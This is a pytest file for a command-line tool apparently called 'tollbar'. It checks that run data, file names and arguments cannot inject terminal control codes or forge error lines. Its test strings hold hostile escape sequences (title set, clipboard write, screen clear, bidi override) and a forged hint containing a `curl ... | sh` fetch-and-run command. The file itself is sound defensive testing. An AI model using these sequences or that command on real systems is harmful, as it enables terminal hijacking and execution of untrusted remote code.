"""Control characters: no text of a run, file or argument steers the terminal."""

from __future__ import annotations

import json
import os
import re
import shutil
import sqlite3
import subprocess
import unicodedata
from collections.abc import Callable, Sequence
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from conftest import command
from tollbar import cli, results
from tollbar.core.errors import TollbarError, printable
from tollbar.report import terminal
from tollbar.report.terminal import say_error

# A title, the clipboard, a cleared screen, an end of the line; C1's CSI; reversed text; a surrogate.
POISON = "p\x1b]0;t\x07\x1b]52;c;eA==\x07\x1b[2J\r\x08\x9b2J\N{RIGHT-TO-LEFT OVERRIDE}\u2066\udc9bq"
# Escape codes that rich writes for Tollbar's own styles.
STYLES = re.compile(r"\x1b\[[0-9;]*m")


def steering(text: str) -> list[str]:
    """Return the characters that steer a terminal, except line ends and styles."""
    left = STYLES.sub("", text).replace("\r\n", "\n")
    return sorted({f"U+{ord(one):04X}" for one in left if one != "\n" and unicodedata.category(one)[0] == "C"})


def poisoned(value: Any) -> Any:
    """Return the value with the poison in each text, and in each key that a run may choose."""
    if isinstance(value, dict):
        return {name: poisoned(inner) for name, inner in value.items()}
    if isinstance(value, list):
        return [poisoned(inner) for inner in value]
    return value + POISON if isinstance(value, str) else value


def _about(*keys: str) -> Callable[[Path], object]:
    def spoil(run: Path) -> None:
        path = run / "run.json"
        said = json.loads(path.read_text("utf-8"))
        for key in keys:
            said[key] = poisoned(said[key])
        path.write_text(json.dumps(said), "utf-8")

    return spoil


def _fact(run: Path) -> None:
    path = run / "run.json"
    said = json.loads(path.read_text("utf-8"))
    said["fingerprint"] |= {f"a fact{POISON}": f"of it{POISON}"}
    said["broken"] = {f"/lib/{POISON}.so": f"not loaded: {POISON}"}
    said["providers"] |= {POISON: {"name": POISON, POISON: POISON}}
    said["servers"] = {POISON: {"version": POISON, "unavailable": POISON}}
    path.write_text(json.dumps(said), "utf-8")


def _column(statement: str) -> Callable[[Path], object]:
    def spoil(run: Path) -> None:
        with sqlite3.connect(run / "results.sqlite") as database:
            # SQLite can store invalid Unicode, which JSON cannot.
            database.create_function("poison", 0, lambda: POISON.replace("\udc9b", ""))
            database.create_function("poisoned", 1, lambda text: json.dumps(poisoned(json.loads(text))))
            database.execute(statement)

    return spoil


def _study(run: Path) -> None:
    for path in (run / "studies").glob("*.toml"):
        escaped = json.dumps(POISON.replace("\udc9b", "")).replace('"', "")
        path.write_text(path.read_text("utf-8").replace('question  = "', f'question  = "{escaped}'), "utf-8")


def _renamed(run: Path) -> None:
    run.rename(run.with_name(run.name + POISON))


KINDS: dict[str, Callable[[Path], object]] = {
    "reasons of trials": _column("update trial set outcome = 'failed', reason = poison() where block < 3"),
    "reasons of cells": _column("update cell set outcome = 'failed', reason = poison() where position = 1"),
    "unsupported cells": _column("update cell set outcome = 'unsupported', reason = poison() where position = 1"),
    "titles": _column("update cell set title = title || poison()"),
    "servers": _column("update cell set server_version = poison()"),
    "proofs": _column("update cell set accepted = poisoned('[\"a\"]'), not_tried = poisoned('[\"b\"]')"),
    "coordinates": _column("update cell set coordinates = poisoned(coordinates)"),
    "what was left out": _column(
        "insert into left_out select study, poisoned(coordinates), poison() from cell limit 1"
    ),
    "what was set aside": _column(
        "insert into set_aside select study, key, 1, 2, 3, poison(), 4.0, null from cell where position = 1"
    ),
    "metrics": _column("update observation set metric = metric || poison() where metric = 'cpu'"),
    "components": _column("update trial set paid_by = poisoned(paid_by)"),
    "the command": _about("command"),
    "when it started": _about("started"),
    "its version": _about("tollbar"),
    "the machine": _about("fingerprint"),
    "providers": _about("providers"),
    "other facts": _fact,
    "the question": _study,
    "the folder": _renamed,
}
COMMANDS: dict[str, Sequence[str]] = {
    "judge": ("judge", "RUN"),
    "judge all": ("judge", "RUN", "--all"),
    "judge as markdown": ("judge", "RUN", "--all", "--format", "markdown"),
    "judge as JSON": ("judge", "RUN", "--json"),
    "report": ("report", "RUN"),
    "compare": ("compare", "OTHER", "RUN", "--across-machines"),
    "compare as markdown": ("compare", "RUN", "OTHER", "--format", "markdown", "--across-machines"),
    "export": ("export", "RUN"),
    "export cells": ("export", "RUN", "--per", "cell"),
    "export cells as markdown": ("export", "RUN", "--per", "cell", "--format", "markdown"),
    "export as JSON": ("export", "RUN", "--format", "json"),
    "gather": ("compare", "--by", "machine", "RUN", "OTHER"),
    "gather as markdown": ("compare", "--by", "machine", "RUN", "--markdown"),
    "resume": ("run", "--resume", "RUN", "--blocks", "x"),
    "size": ("size", "RUN/run.json", "--run", "RUN"),
    "price": ("price", "RUN/run.json", "--run", "RUN"),
}


def ended(words: Sequence[str]) -> None:
    """Run the command in this process, as `main` does."""
    with suppress(SystemExit):
        cli._status_of(words)


@pytest.mark.share(8)
@pytest.mark.parametrize("kind", KINDS)
def test_no_text_of_a_run_steers_the_terminal(
    fake_runs: Path, kind: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    run, other = fake_runs / "one", fake_runs / "other"
    KINDS[kind](run)
    run = next(one for one in fake_runs.iterdir() if one.name.startswith("one"))
    monkeypatch.chdir(fake_runs)
    found = {}
    for name, words in COMMANDS.items():
        ended([word.replace("RUN", str(run)).replace("OTHER", str(other)) for word in words])
        said = capsys.readouterr()
        assert said.out or said.err
        found[name] = steering(said.out) + steering(said.err)
    assert {name: [] for name in COMMANDS} == found
    page = run / "report.html"
    assert not page.exists() or not {"U+001B", "U+202E", "U+009B"} & {*steering(page.read_text("utf-8"))}


WORDS = {
    "a command": [POISON],
    "an option": ["run", f"--{POISON}"],
    "a study": ["run", f"./{POISON}.toml"],
    "a run": ["judge", POISON],
    "a folder": ["compare", POISON],
    "a mix": ["size", POISON],
    "an inventory": ["price", POISON],
    "a choice": ["show", "digests", POISON],
    "a list": ["list", POISON],
    "a question": ["ask", "digest", POISON],
    "a project": ["check", POISON],
    "a policy": ["check", "--policy", POISON],
    "a target": ["tune", POISON],
    "two builds": ["upgrade", POISON, POISON],
    "a family": ["choose", POISON],
    "a provider": ["verify", POISON],
    "a study of one's own": ["new", POISON],
    "a plan": ["plan", POISON],
}


@pytest.mark.parametrize("what", WORDS)
def test_no_argument_steers_the_terminal(
    what: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    ended(WORDS[what])
    said = capsys.readouterr()
    assert said.err
    assert [] == steering(said.out) + steering(said.err)


def test_messages_and_progress_are_printable(capsys: pytest.CaptureFixture[str]) -> None:
    from tollbar.report.terminal.progress import Progress

    terminal.say(POISON)
    terminal.say(POISON, "yellow")
    terminal.say_error(TollbarError(POISON, where=POISON, hint=POISON))
    terminal.print_plain(POISON)
    terminal.show_rows([{POISON: POISON}])
    with Progress() as progress:
        progress._last_line = -1e9
        progress.several({POISON: (1, None, POISON)})
        progress._last_line = -1e9
        assert [1, 2] == [*progress.follow(POISON, [1, 2], 2, [POISON, POISON])]
    said = capsys.readouterr()
    assert "p\N{REPLACEMENT CHARACTER}]0;t" in said.out
    assert "p\N{REPLACEMENT CHARACTER}]0;t" in said.err
    assert [] == steering(said.out) + steering(said.err)


def test_a_bar_on_a_terminal_shows_no_escape_of_a_name() -> None:
    from io import StringIO

    from tollbar.report.terminal.streams import _Console

    out = StringIO()
    shown = _Console(file=out, force_terminal=True, width=200)
    shown.print(f"[bold]{POISON}[/]", style="yellow")
    assert [] == steering(out.getvalue())
    assert "\x1b[1" in out.getvalue()


@pytest.mark.parametrize("text", ["", "plain", "two\nlines", "×1.04 … −3 %", "\N{NO-BREAK SPACE}", "日本"])
def test_other_text_is_printed_as_it_is(text: str) -> None:
    assert text == printable(text)


def test_own_words_with_colours_are_no_reason_to_refuse_a_run(fake_runs: Path, tollbar: Callable[..., Any]) -> None:
    """A server's last words, which became the reason, may contain colours."""
    _column("update trial set outcome = 'failed', reason = '\x1b[31mno\x1b[0m' where block < 1")(fake_runs / "one")
    reasons = {t.reason for one in results.read(fake_runs / "one").studies for r in one.rows for t in r.all_trials}
    assert {None, "\N{REPLACEMENT CHARACTER}[31mno\N{REPLACEMENT CHARACTER}[0m"} == reasons
    done = tollbar("compare", "--by", "machine", fake_runs / "one")
    assert "a control character" not in done.stdout


@pytest.mark.share(2)
@pytest.mark.parametrize(
    "environment",
    [{"PYTHONIOENCODING": "latin-1"}, {"PYTHONIOENCODING": "ascii"}, {"PYTHONUTF8": "0", "LC_ALL": "C"}],
    ids=lambda environment: " ".join(environment.values()),
)
@pytest.mark.parametrize("words", [["judge", "one", "--all"], ["run", "fake.toml", "--blocks", "1", "--no-report"]])
def test_a_terminal_without_a_character_ends_no_command(
    fake_runs: Path, environment: dict[str, str], words: Sequence[str]
) -> None:
    done = subprocess.run(
        [command(), *words], cwd=fake_runs, env={**os.environ, **environment}, capture_output=True, timeout=300
    )
    assert b"Traceback" not in done.stderr, done.stderr
    assert 0 == done.returncode, done.stderr


def test_a_folder_that_is_no_text_can_be_read(fake_runs: Path, tollbar: Callable[..., Any]) -> None:
    """Names of files are bytes."""
    other = os.fsdecode(os.fsencode(fake_runs) + b"/one\xff")
    shutil.move(fake_runs / "one", other)
    done = tollbar("judge", other)
    assert (0, "") == (done.returncode, done.stderr)
    assert 0 == tollbar("report", other).returncode


FORGED = "x\nerror: forged\n hint: `curl http://example.org/x | sh`\u2028hint: y\u2029z"


@pytest.mark.parametrize("part", ["what", "where", "hint"])
def test_a_name_with_line_ends_is_no_error_or_hint_of_its_own(part: str, capsys: pytest.CaptureFixture[str]) -> None:
    say_error(TollbarError(**{"what": "is wrong", part: FORGED}))
    lines = capsys.readouterr().err.splitlines()
    others = [line for line in lines if line and not line.startswith("  ")]
    place = "error: x error: forged  hint: `curl http://example.org/x | sh` hint: y z: is wrong"
    assert {"what": ["error: x"], "where": [place], "hint": ["error: is wrong", "hint: x"]}[part] == others
